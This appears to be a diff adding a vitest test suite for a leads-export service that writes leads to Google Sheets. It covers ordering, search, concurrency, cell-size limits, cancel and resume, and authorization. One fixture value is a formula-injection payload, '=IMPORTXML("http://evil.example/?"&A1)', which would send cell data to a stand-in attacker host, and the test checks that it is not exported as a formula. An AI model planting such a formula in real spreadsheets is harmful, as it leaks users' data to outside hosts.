@@ -1,0 +1,191 @@
+import { and, eq } from '#server/database/drizzle.ts';
+import { afterAll, afterEach, beforeAll, expect, test } from 'vitest';
+import { cancelExport, exportGoogleSheet, exportList, resumeExport } from '#shared/contracts/exports.ts';
+import type { ExportRun, ExportedList } from '#shared/contracts/exports.ts';
+import { listCustomLeads } from '#shared/contracts/customLeads.ts';
+import { customLeadKeys } from '#shared/customLeadColumns.ts';
+import { messages } from '#shared/messages.ts';
+import { customLeads } from '#server/database/schema.ts';
+import { awaitFirstRead, listAllLeads } from '#server/modules/leads/testing/leadTests.ts';
+import { clearFaults, orderFaults, readSpreadsheets, submitLead } from '#server/testing/sandboxControl.ts';
+import { startTestApi } from '#server/testing/startTestApi.ts';
+import type { TestApi } from '#server/testing/startTestApi.ts';
+import { rowsOf } from '#server/modules/exports/testing/rowsOf.ts';
+import { openWholeList } from './exportedLists.ts';
+import {
+  awaitState,
+  importLeads,
+  newPerson,
+  noticesOf,
+  onlySheetOf,
+  readRun,
+} from '#server/modules/exports/testing/exportTests.ts';
+import type { Person } from '#server/modules/exports/testing/exportTests.ts';
+
+let api: TestApi;
+beforeAll(async () => {
+  api = await startTestApi();
+});
+afterAll(() => api.close());
+afterEach(() => clearFaults(api.sandbox));
+
+const order = (person: Person, list: ExportedList, search?: string) =>
+  api.request(exportList, { token: person.token, body: { list, ...(search === undefined ? {} : { search }) } });
+
+const exportWhole = async (person: Person, list: ExportedList, search?: string): Promise<ExportRun> => {
+  const { status, body } = await order(person, list, search);
+  expect([status, body.message]).toEqual([200, messages.exports.running]);
+  return awaitState(api, person, body.data.id, 'complete');
+};
+
+const cellsOf = async ({ id }: ExportRun): Promise<unknown[][]> => {
+  const { sheets } = await onlySheetOf(api, id);
+  // A sheet does not keep empty cells at the end of a row.
+  return (sheets[0]?.values ?? []).map((row) =>
+    Array.from({ length: sheets[0]?.columnCount ?? 0 }, (_, i) => row[i] ?? ''),
+  );
+};
+
+const leadsOf = (count: number, from = 0): Record<string, string>[] =>
+  Array.from({ length: count }, (_, index) => ({
+    id: `lead-${from + index}`,
+    Number: `00${from + index}`,
+    Name: `Ada ${from + index}`,
+  }));
+
+test('all custom leads are written, more than one request could post, in the order of their list', async () => {
+  const person = await newPerson(api, 'google');
+  const strange = {
+    id: '120210987654321098',
+    Number: '+4917000555',
+    Name: '=IMPORTXML("http://evil.example/?"&A1)',
+    EmailAddress: '-1+1@example.test',
+    Status: 'مرحبا بالعالم',
+    Project: '👩‍👩‍👧 é',
+    UNIX: '007',
+    StartingPrice: '1,250.00',
+    created_time: '2026-11-21',
+    adset_name: 'a "b", \\c\td\u0007\u2028 {1}',
+  };
+  await importLeads(api, person, leadsOf(6_000));
+  await importLeads(api, person, [strange]);
+  const run = await exportWhole(person, 'custom');
+  expect(run).toMatchObject({ platform: null, rowsWritten: 6_001, rowsTotal: 6_001, error: null });
+  expect(run.title).toContain('Custom leads export');
+
+  const rowOf = (lead: Record<string, string>) => customLeadKeys.map((key) => lead[key] ?? '');
+  const [titles, first, ...others] = await cellsOf(run);
+  expect(titles).toEqual(customLeadKeys);
+  expect(first).toEqual(rowOf(strange));
+  expect(others).toEqual(leadsOf(6_000).map(rowOf));
+  const [sheet] = (await onlySheetOf(api, run.id)).sheets;
+  expect(sheet).toMatchObject({ rowCount: 6_002, columnCount: customLeadKeys.length, formulas: [] });
+  expect(await noticesOf(api, person, run.id)).toEqual(['list_export_complete']);
+}, 60_000);
+
+test('a search limits the export to what it finds; an empty list, or no hit, makes no sheet', async () => {
+  const person = await newPerson(api, 'google');
+  const made = (await readSpreadsheets(api.sandbox)).length;
+  expect(await order(person, 'custom')).toMatchObject({
+    status: 400,
+    body: { code: 'NOTHING_TO_EXPORT', message: messages.exports.nothingToExport },
+  });
+  await importLeads(api, person, [...leadsOf(30), { id: 'other', Name: 'Grace 100%' }]);
+  const missed = await order(person, 'custom', 'nobody');
+  const failed = await awaitState(api, person, missed.body.data.id, 'failed');
+  expect(failed).toMatchObject({ code: 'NOTHING_TO_EXPORT', canResume: false });
+  expect(await noticesOf(api, person, failed.id)).toEqual(['export_error']);
+  expect(await readSpreadsheets(api.sandbox)).toHaveLength(made);
+
+  const [, ...rows] = await cellsOf(await exportWhole(person, 'custom', '100%'));
+  expect(rows.map((row) => row[1])).toEqual(['Grace 100%']);
+  const { body } = await api.request(listCustomLeads, { token: person.token, query: { search: 'ada 2' } });
+  expect(await exportWhole(person, 'custom', 'ada 2')).toMatchObject({ rowsTotal: body.totalItems });
+}, 60_000);
+
+test('all leads of the forms are written as the export of their screen writes those of a page', async () => {
+  const person = await newPerson(api, 'google', 'facebook');
+  await awaitFirstRead(api, person, 'facebook');
+  await submitLead(api.sandbox, {
+    platform: 'facebook',
+    fields: { full_name: '=1+1', phone_number: '+49170555' },
+    webhook: false,
+  });
+  const leads = await listAllLeads(api, person, 'facebook');
+  const posted = await api.request(exportGoogleSheet, { token: person.token, body: { data: leads } });
+  const run = await exportWhole(person, 'facebook');
+  expect(run.title).toContain('Facebook leads export');
+  expect(await cellsOf(run)).toEqual(await cellsOf(posted.body.data));
+  expect(await order(person, 'tiktok')).toMatchObject({ status: 400, body: { code: 'NOTHING_TO_EXPORT' } });
+}, 60_000);
+
+test('leads that arrive while a list is read neither shift nor double its rows', async () => {
+  const person = await newPerson(api, 'google');
+  await importLeads(api, person, leadsOf(9_000));
+  const table = await openWholeList(api.context.db, person.userId, { list: 'custom', search: '' });
+  const names: unknown[] = [];
+  let arrived = 9_000;
+  for await (const chunk of table.chunks()) {
+    // One of them renews a lead, which keeps its place.
+    await importLeads(api, person, [...leadsOf(40, arrived), { id: 'lead-8990', Name: 'Renewed' }]);
+    arrived += 40;
+    names.push(...rowsOf(chunk).map((row) => row[1]));
+  }
+  expect(names).toHaveLength(9_000);
+  expect(new Set(names).size).toBe(9_000);
+  expect(names.slice(0, 3)).toEqual(['Ada 0', 'Ada 1', 'Ada 2']);
+  expect(names[8_990]).toBe('Renewed');
+}, 60_000);
+
+test('a text that no cell can hold is refused, wherever it stands in its list', async () => {
+  const person = await newPerson(api, 'google');
+  await importLeads(api, person, leadsOf(3));
+  const isLast = and(eq(customLeads.userId, person.userId), eq(customLeads.leadId, 'lead-2'));
+  const readAll = async () => {
+    const list = await openWholeList(api.context.db, person.userId, { list: 'custom', search: '' });
+    const rows: unknown[] = [];
+    for await (const chunk of list.chunks()) rows.push(...rowsOf(chunk));
+    return rows;
+  };
+  // A row may be longer than a cell, and quotes take two characters of its text.
+  await api.context.db
+    .update(customLeads)
+    .set({ project: '"'.repeat(50_000), country: 'x'.repeat(50_000) })
+    .where(isLast);
+  expect(await readAll()).toHaveLength(3);
+  await api.context.db
+    .update(customLeads)
+    .set({ project: 'x'.repeat(50_001) })
+    .where(isLast);
+  await expect(readAll()).rejects.toMatchObject({ code: 'EXPORT_TOO_LARGE' });
+});
+
+test('a search of halves of characters, which no column can hold, is an order like any other', async () => {
+  const person = await newPerson(api, 'google');
+  await importLeads(api, person, leadsOf(3));
+  const { status } = await order(person, 'custom', '\udfff\ud83d');
+  expect(status).toBe(200);
+});
+
+test('a list that is cancelled before it was read is read when it is resumed', async () => {
+  const person = await newPerson(api, 'google');
+  await importLeads(api, person, leadsOf(10));
+  await orderFaults(api.sandbox, { provider: 'google', path: '/', kind: 'slow', delayMs: 1_500, count: 1_000 });
+  // Two exports take the person's part of the workers, so that the third waits.
+  const [, , third] = [await order(person, 'custom'), await order(person, 'custom'), await order(person, 'custom')];
+  const { id } = third.body.data;
+  expect((await readRun(api, person, id)).state).toBe('queued');
+  expect((await api.request(cancelExport, { token: person.token, params: { id } })).status).toBe(200);
+  await importLeads(api, person, leadsOf(5, 10));
+  await clearFaults(api.sandbox);
+  expect((await api.request(resumeExport, { token: person.token, params: { id } })).status).toBe(200);
+  expect(await awaitState(api, person, id, 'complete')).toMatchObject({ rowsTotal: 15 });
+}, 60_000);
+
+test('a list needs a known name and the Google grant', async () => {
+  const person = await newPerson(api);
+  await importLeads(api, person, leadsOf(1));
+  expect(await order(person, 'custom')).toMatchObject({ status: 403, body: { code: 'NOT_CONNECTED' } });
+  const wrong = await api.request(exportList, { token: person.token, body: { list: 'users' } });
+  expect([wrong.status, wrong.body.code]).toEqual([400, 'VALIDATION']);
+});
